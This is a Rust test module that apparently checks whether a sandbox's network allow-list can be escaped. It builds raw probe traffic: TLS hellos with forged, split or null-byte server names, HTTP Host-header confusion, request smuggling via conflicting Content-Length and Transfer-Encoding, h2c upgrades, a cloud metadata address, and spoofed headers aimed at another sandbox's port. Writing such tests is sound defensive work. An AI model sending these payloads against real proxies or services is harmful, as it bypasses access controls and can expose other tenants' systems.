//! Attacks by what a connection says it is for, from a sandbox that is allowed a few names.

use std::net::Ipv4Addr;

use sandglass_proto::leak::Leak;

use super::super::yard::{ALLOWED, DENIED, SECOND, STRANGER, UPSTREAM};
use super::aim::{Aim, Step, resolve, tcp};
use super::wire::{Hello, get, hello};

/// Ports of a stranger: SSH, mail, HTTP and HTTPS, a database, and one without a name.
const PORTS: [u16; 6] = [22, 25, 80, 443, 5432, 8080];

pub(super) fn unlisted_address(aim: &mut Aim<'_>) -> Vec<Step> {
    let mut attacks: Vec<Leak> = PORTS.iter().map(|port| aim.bytes(&format!("{STRANGER}:{port}"))).collect();
    // Names that are allowed, but not there; and ports that are not, at an address that is.
    attacks.push(aim.get("203.0.113.99:80", ALLOWED));
    attacks.push(aim.hello(Ipv4Addr::new(203, 0, 113, 99), ALLOWED));
    attacks.extend([22, 8080, 8443].map(|port| aim.bytes(&format!("{UPSTREAM}:{port}"))));
    vec![resolve(&[ALLOWED]), Step::Inside(attacks)]
}

pub(super) fn other_name(aim: &mut Aim<'_>) -> Vec<Step> {
    let names = [
        DENIED,
        "verify.example",
        "www.allowed.verify.example",
        "allowed.verify.example.denied.example",
        "xallowed.verify.example",
        "allowed.verify.example\0.denied.example",
        "allowed.verify.example\r\n",
        "203.0.113.10",
        "*.verify.example",
    ];
    vec![resolve(&[ALLOWED]), Step::Inside(names.map(|name| aim.hello(UPSTREAM, name)).to_vec())]
}

pub(super) fn no_name(aim: &mut Aim<'_>) -> Vec<Step> {
    let to = format!("{UPSTREAM}:443");
    let word = aim.word("TLS without a name");
    let mut attacks = vec![tcp(&to, Hello::default().bytes(&word))];
    let word = aim.word("TLS with an empty name");
    attacks.push(tcp(&to, hello("", &word)));
    let word = aim.word("a greeting of SSH");
    attacks.push(tcp(&to, format!("SSH-2.0-{word}\r\n").into_bytes()));
    let word = aim.word("HTTP on the port of TLS");
    attacks.push(tcp(&to, get(ALLOWED, &word)));
    let word = aim.word("a hello of SSL 2.0");
    attacks.push(tcp(&to, [&[0x80, 0x2e, 1, 0, 2][..], word.as_bytes()].concat()));
    vec![resolve(&[ALLOWED]), Step::Inside(attacks)]
}

pub(super) fn encrypted_name(aim: &mut Aim<'_>) -> Vec<Step> {
    let names = [ALLOWED, DENIED].map(str::as_bytes);
    let attacks = names.map(|name| {
        let word = aim.word(format!("an encrypted name behind {}", name.escape_ascii()));
        let hello = Hello { names: &[name], encrypted: true, record: 0 };
        tcp(&format!("{UPSTREAM}:443"), hello.bytes(&word))
    });
    vec![resolve(&[ALLOWED]), Step::Inside(attacks.to_vec())]
}

/// A name that is not allowed, in pieces, so that who looks at one piece doesn't see it; and behind one that is allowed.
pub(super) fn split_name(aim: &mut Aim<'_>) -> Vec<Step> {
    let to = format!("{UPSTREAM}:443");
    let denied: &[&[u8]] = &[DENIED.as_bytes()];
    let word = aim.word("a name byte by byte");
    let send = Hello { names: denied, ..Hello::default() }.bytes(&word);
    let mut attacks = vec![Leak::Tcp { to: to.clone(), send, one_by_one: true }];
    // Words would be cut by shorter records.
    for record in [100, 130] {
        let word = aim.word(format!("a name in records of {record} bytes"));
        attacks.push(tcp(&to, Hello { names: denied, record, ..Hello::default() }.bytes(&word)));
    }
    for names in [[ALLOWED, DENIED], [DENIED, ALLOWED]] {
        let word = aim.word(format!("two names, of which the first is {}", names[0]));
        let names = names.map(str::as_bytes);
        attacks.push(tcp(&to, Hello { names: &names, ..Hello::default() }.bytes(&word)));
    }
    let word = aim.word("an allowed hello, and another one in the same record's place");
    let mut two = hello(DENIED, &word);
    two.splice(0..0, [22, 3, 1, 0, 0]);
    attacks.push(tcp(&to, two));
    vec![resolve(&[ALLOWED]), Step::Inside(attacks)]
}

/// Requests that name two hosts, or one in a way that readers differ about.
pub(super) fn http_host(aim: &mut Aim<'_>) -> Vec<Step> {
    let mut attacks = vec![
        aim.get(&format!("{UPSTREAM}:80"), DENIED),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example.denied.example"),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example@denied.example"),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example\0.denied.example"),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example, denied.example"),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example%00.denied.example"),
        aim.get(&format!("{UPSTREAM}:80"), "169.254.169.254"),
        aim.get(&format!("{UPSTREAM}:80"), "allowed.verify.example:8080"),
        aim.get(&format!("{UPSTREAM}:80"), ""),
    ];
    let requests = [
        ("two hosts", format!("GET /WORD HTTP/1.1\r\nHost: {ALLOWED}\r\nHost: {DENIED}\r\n\r\n")),
        (
            "a target that is another host",
            format!("GET http://{DENIED}/WORD HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n"),
        ),
        (
            "a host that is another target",
            format!("GET http://{ALLOWED}/WORD HTTP/1.1\r\nHost: {DENIED}\r\n\r\n"),
        ),
        ("a tunnel", format!("CONNECT {DENIED}:443 HTTP/1.1\r\nHost: {DENIED}:443\r\nX: WORD\r\n\r\n")),
        (
            "a tunnel to who is allowed",
            format!("CONNECT {ALLOWED}:443 HTTP/1.1\r\nHost: {ALLOWED}:443\r\nX: WORD\r\n\r\n"),
        ),
        ("no host", "GET /WORD HTTP/1.1\r\n\r\n".to_owned()),
        ("an old request without a host", "GET /WORD HTTP/1.0\r\n\r\n".to_owned()),
        ("a folded host", format!("GET /WORD HTTP/1.1\r\nHost: {ALLOWED}\r\n {DENIED}\r\n\r\n")),
        (
            "a host behind a space",
            format!("GET /WORD HTTP/1.1\r\nHost: {ALLOWED}\r\nHost : {DENIED}\r\n\r\n"),
        ),
        ("lines without CR", format!("GET /WORD HTTP/1.1\nHost: {ALLOWED}\nHost: {DENIED}\n\n")),
    ];
    attacks.extend(requests.map(|(way, request)| said(aim, way, &request)));
    vec![resolve(&[ALLOWED]), Step::Inside(attacks)]
}

/// A request to a host that is not allowed, behind one that is.
pub(super) fn smuggling(aim: &mut Aim<'_>) -> Vec<Step> {
    let first = |headers: &str| format!("POST / HTTP/1.1\r\nHost: {ALLOWED}\r\n{headers}\r\n");
    let second = format!("GET /WORD HTTP/1.1\r\nHost: {DENIED}\r\n\r\n");
    let requests = [
        ("pipelined", first("Content-Length: 0\r\n") + &second),
        ("behind a body", first("Content-Length: 4\r\n") + "body" + &second),
        ("behind the last chunk", first("Transfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &second),
        ("two lengths", first("Content-Length: 4\r\nContent-Length: 200\r\n") + "body" + &second),
        (
            "length and chunks",
            first("Content-Length: 5\r\nTransfer-Encoding: chunked\r\n") + "0\r\n\r\n" + &second,
        ),
        (
            "chunks and length",
            first("Transfer-Encoding: chunked\r\nContent-Length: 200\r\n") + "0\r\n\r\n" + &second,
        ),
        ("chunks that are none", first("Content-Length: 200\r\nTransfer-Encoding: xchunked\r\n") + &second),
        ("chunks behind a space", first("Content-Length: 200\r\nTransfer-Encoding : chunked\r\n") + &second),
        (
            "chunks twice",
            first("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n") + "0\r\n\r\n" + &second,
        ),
        ("a length with a sign", first("Content-Length: +0\r\n") + &second),
        ("a chunk of a strange length", first("Transfer-Encoding: chunked\r\n") + "0x0\r\n\r\n" + &second),
    ];
    vec![resolve(&[ALLOWED]), Step::Inside(requests.map(|(way, request)| said(aim, way, &request)).to_vec())]
}

/// HTTP/2 without TLS, and other protocols behind an upgrade.
pub(super) fn upgrades(aim: &mut Aim<'_>) -> Vec<Step> {
    let upgrade = |to: &str| {
        format!(
            "GET /WORD HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: {to}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
        )
    };
    let requests = [
        ("HTTP/2 from the start", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nWORD".to_owned()),
        ("an upgrade to HTTP/2", upgrade("h2c")),
        ("an upgrade to two protocols", upgrade("websocket, h2c")),
        ("an upgrade to what nobody knows", upgrade("WORD")),
    ];
    vec![resolve(&[ALLOWED]), Step::Inside(requests.map(|(way, request)| said(aim, way, &request)).to_vec())]
}

/// What the edge would take for a port of another sandbox, sent to it at the server's own addresses and past a host that is
/// allowed.
pub(super) fn port_url(aim: &mut Aim<'_>) -> Vec<Step> {
    let peer = aim.peer.to_owned();
    let host = format!("49983-{peer}.sandglass.example");
    let headers = format!(
        "GET /WORD HTTP/1.1\r\nHost: {DENIED}\r\nE2b-Sandbox-Id: {peer}\r\nE2b-Sandbox-Port: 49983\r\n\r\n"
    );
    let mut attacks = Vec::new();
    for to in [UPSTREAM, Ipv4Addr::new(203, 0, 113, 1), Ipv4Addr::new(10, 44, 0, 1)] {
        let to = format!("{to}:80");
        attacks.push(aim.get(&to, &host));
        let word = aim.word(format!("HTTP to {to} with the headers of the edge"));
        attacks.push(tcp(&to, headers.replace("WORD", &word).into_bytes()));
    }
    vec![resolve(&[ALLOWED, SECOND]), Step::Inside(attacks)]
}

/// A request in which `WORD` stands for the word.
fn said(aim: &mut Aim<'_>, way: &str, request: &str) -> Leak {
    let word = aim.word(format!("HTTP: {way}"));
    tcp(&format!("{UPSTREAM}:80"), request.replace("WORD", &word).into_bytes())
}
